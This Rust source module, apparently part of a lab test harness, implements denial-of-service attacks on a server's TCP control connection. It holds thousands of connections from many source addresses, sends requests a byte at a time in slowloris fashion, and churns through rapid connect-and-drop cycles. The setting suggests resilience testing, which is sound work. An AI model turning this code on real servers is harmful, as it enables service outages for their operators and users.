//! Attacks on the control connection.

use std::{
    io::{ErrorKind, Read, Write},
    net::{Ipv4Addr, SocketAddrV4, TcpStream},
    time::Duration,
};

use anyhow::{Context, Result};
use rustix::net::{AddressFamily, SocketFlags, SocketType, bind, connect, socket_with};

use super::{
    attack::{OWN, Strike},
    gre::SERVER_ADDRESS,
};
use crate::lab::{SERVER_PORT, call_request, start_request};

/// Connections that one attack holds at once: more need more files than a process may have.
const MOST_HELD: usize = 6000;
/// Connections of slow senders.
const SLOW: usize = 1000;

/// Opens TCP to the server from one of our addresses.
pub(super) fn connect_from(source: Ipv4Addr) -> Result<TcpStream> {
    let socket = socket_with(AddressFamily::INET, SocketType::STREAM, SocketFlags::CLOEXEC, None)?;
    bind(&socket, &SocketAddrV4::new(source, 0)).context("bind")?;
    connect(&socket, &SocketAddrV4::new(SERVER_ADDRESS, SERVER_PORT)).context("connect")?;
    let stream = TcpStream::from(socket);
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Connects from many addresses and holds what it gets after `opening` has been said.
fn hold(strike: &mut Strike, opening: &[u8]) -> Result<()> {
    let mut held = std::collections::VecDeque::new();
    while let Some(due) = strike.due() {
        for _ in 0..due {
            let Ok(mut stream) = connect_from(strike.some_source()) else { continue };
            // The server may have closed it.
            let _ = stream.write_all(opening);
            held.push_back(stream);
            if held.len() > MOST_HELD {
                held.pop_front();
            }
        }
    }
    Ok(())
}

pub(super) fn say_nothing(strike: &mut Strike) -> Result<()> {
    hold(strike, &[])
}

pub(super) fn only_start(strike: &mut Strike) -> Result<()> {
    hold(strike, &start_request())
}

pub(super) fn only_call(strike: &mut Strike) -> Result<()> {
    hold(strike, &[start_request(), call_request()].concat())
}

/// A thousand connections, each of which sends its start byte by byte.
pub(super) fn slow_senders(strike: &mut Strike) -> Result<()> {
    let opening = start_request();
    let mut held: Vec<(TcpStream, usize)> = Vec::new();
    let mut next = 0;
    while let Some(due) = strike.due() {
        for _ in 0..due {
            if held.len() < SLOW {
                held.extend(connect_from(strike.some_source()).ok().map(|stream| (stream, 0)));
                continue;
            }
            let index = next % held.len();
            let (stream, at) = &mut held[index];
            next += 1;
            match opening.get(*at).map(|byte| stream.write_all(&[*byte])) {
                Some(Ok(())) => *at += 1,
                // The server has had enough of it.
                _ => {
                    held.swap_remove(index);
                }
            }
        }
    }
    Ok(())
}

/// Starts, calls, and is gone.
pub(super) fn churn(strike: &mut Strike) -> Result<()> {
    let opening = [start_request(), call_request()].concat();
    while let Some(due) = strike.due() {
        for _ in 0..due {
            let Ok(mut stream) = connect_from(OWN) else { continue };
            let _ = stream.write_all(&opening);
            stream.set_read_timeout(Some(Duration::from_millis(50)))?;
            match stream.read(&mut [0; 512]) {
                Err(error) if error.kind() == ErrorKind::Interrupted => {}
                // Whatever the answer is, the connection ends here.
                _ => drop(stream),
            }
        }
    }
    Ok(())
}
